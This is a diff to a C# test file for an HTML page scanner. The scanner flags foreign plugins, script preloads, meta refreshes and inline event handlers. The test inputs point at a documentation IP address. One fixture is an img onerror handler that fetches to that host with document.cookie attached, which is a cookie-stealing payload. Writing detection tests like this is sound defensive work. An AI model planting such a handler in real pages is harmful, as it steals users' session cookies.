@@ -17,6 +17,7 @@ public sealed class HtmlPageScanTests
         var result = new Dictionary<string, string>();
         for (int i = 0; i < scan.Keys.Count; i++) result[(string)scan.Keys[i]!] = (string)scan.Values[i]!;
         if (scan.Overflowed) result["overflow"] = "yes";
+        if (scan.HandlersOverflowed) result["handler-overflow"] = "yes";
         return result;
     }
 
@@ -103,5 +104,77 @@ public sealed class HtmlPageScanTests
     public void UnterminatedScriptAtTheCut_IsStillDigested()
     {
         Assert.HasCount(1, Scan("<script>var x = 1; // page cut here"));
+    }
+
+    [TestMethod]
+    [DataRow("<object data=\"http://203.0.113.66/p.swf\"></object>", "http.object.origin.203.0.113.66")]
+    [DataRow("<embed src='//203.0.113.66/p.swf'>", "http.object.origin.203.0.113.66")]
+    [DataRow("<link rel=\"preload\" as=\"script\" href=\"https://203.0.113.66/a.js\">", "http.link.origin.203.0.113.66")]
+    [DataRow("<link href=\"https://203.0.113.66/a.js\" AS=Script rel=\"Preload\">", "http.link.origin.203.0.113.66")]
+    [DataRow("<link rel=\"stylesheet modulepreload\" href=\"https://203.0.113.66/m.js\">", "http.link.origin.203.0.113.66")]
+    [DataRow("<link rel=import href=http://203.0.113.66/x.html>", "http.link.origin.203.0.113.66")]
+    [DataRow("<meta http-equiv=\"Refresh\" content=\"3; URL='https://203.0.113.66/login'\">", "http.refresh.origin.203.0.113.66")]
+    [DataRow("<meta content=\"0;url=http://203.0.113.66/\" http-equiv=refresh>", "http.refresh.origin.203.0.113.66")]
+    [DataRow("<meta http-equiv=\"refresh\" content=\"0, //203.0.113.66/\">", "http.refresh.origin.203.0.113.66")]
+    public void PluginsCodePreloadsAndRefreshes_NameTheForeignOrigin(string html, string key)
+    {
+        CollectionAssert.AreEqual(new[] { key }, Scan(html).Keys.ToArray());
+    }
+
+    [TestMethod]
+    [DataRow("<link rel=\"preload\" as=\"style\" href=\"https://cdn.example/a.css\">")]
+    [DataRow("<link rel=\"preload\" href=\"https://cdn.example/a.js\">")]
+    [DataRow("<link rel=\"icon\" href=\"https://cdn.example/favicon.ico\">")]
+    [DataRow("<link rel=\"modulepreload\" href=\"/js/m.js\">")]
+    [DataRow("<meta http-equiv=\"refresh\" content=\"30\">")]
+    [DataRow("<meta http-equiv=\"refresh\" content=\"5; url=/status.html\">")]
+    [DataRow("<meta name=\"refresh\" content=\"0; url=http://203.0.113.66/\">")]
+    [DataRow("<object data=\"/plugin/ocx.cab\"></object>")]
+    public void LinksThatLoadNoForeignCode_AreNotFacts(string html)
+    {
+        Assert.IsEmpty(Scan(html));
+    }
+
+    [TestMethod]
+    public void EventHandlers_AreDigestedLikeInlineScripts_OnAnyElement()
+    {
+        var facts = Scan("<body onload=\"init()\"><img src=x ONERROR='fetch(\"//203.0.113.66/?\"+document.cookie)'><button onclick=init()>a</button></body>");
+        var handlers = facts.Where(f => f.Key.StartsWith("http.handler.inline.", StringComparison.Ordinal)).ToList();
+        Assert.HasCount(2, handlers, "the same handler text on two elements is one fact");
+        CollectionAssert.AreEquivalent(new[] { "onload", "onerror" }, handlers.Select(h => h.Value).ToArray());
+        // Per-visit values are normalised away as in scripts; changed code is not.
+        string Key(string html) => Scan(html).Keys.Single();
+        Assert.AreEqual(Key("<a onclick=\"go('8f0e1d2c3b4a59687f0e1d2c3b4a5968', 1712345678)\">"), Key("<a onclick=\"go('0a0b0c0d0e0f10111213141516171819', 1799999999)\">"));
+        Assert.AreNotEqual(Key("<a onclick=\"go(1)\">"), Key("<a onclick=\"stop(1)\">"));
+        Assert.IsEmpty(Scan("<a onclick=\"\" on=\"y\" on-x=\"z\">"));
+    }
+
+    [TestMethod]
+    public void LongHandler_IsHashedWhole_AndHandlersHaveTheirOwnBound()
+    {
+        string tail = new string(' ', 3000);
+        string a = Scan("<img onerror=\"a();" + tail + "b()\">", 5).Keys.Single();
+        string b = Scan("<img onerror=\"a();" + tail + "c()\">", 5).Keys.Single();
+        Assert.AreNotEqual(a, b, "a change past the 1 KiB value buffer still changes the digest");
+        var many = string.Concat(Enumerable.Range(0, 50).Select(i => $"<a onclick=\"f{new string('x', i + 1)}()\">"));
+        var facts = Scan(many + "<script src=\"http://203.0.113.66/x.js\"></script>");
+        Assert.AreEqual(HtmlPageScan.MaxHandlers, facts.Keys.Count(k => k.StartsWith("http.handler.inline.", StringComparison.Ordinal)));
+        Assert.AreEqual("yes", facts["handler-overflow"]);
+        Assert.IsTrue(facts.ContainsKey("http.script.origin.203.0.113.66"), "handlers never crowd out scripts");
+        Assert.IsFalse(facts.ContainsKey("overflow"));
+    }
+
+    [TestMethod]
+    public void HostileMarkup_DoesNotBreakTheScan()
+    {
+        var rng = new Random(13);
+        string alphabet = "<>=\"' /onerrorscriptmetalinkhttp-equivrefreshcontent;url:/\t\n";
+        for (int round = 0; round < 200; round++)
+        {
+            var chars = new char[rng.Next(0, 2000)];
+            for (int i = 0; i < chars.Length; i++) chars[i] = alphabet[rng.Next(alphabet.Length)];
+            var facts = Scan(new string(chars), rng.Next(1, 64));
+            Assert.IsLessThanOrEqualTo(HtmlPageScan.MaxItems + HtmlPageScan.MaxHandlers + 2, facts.Count);
+        }
     }
 }
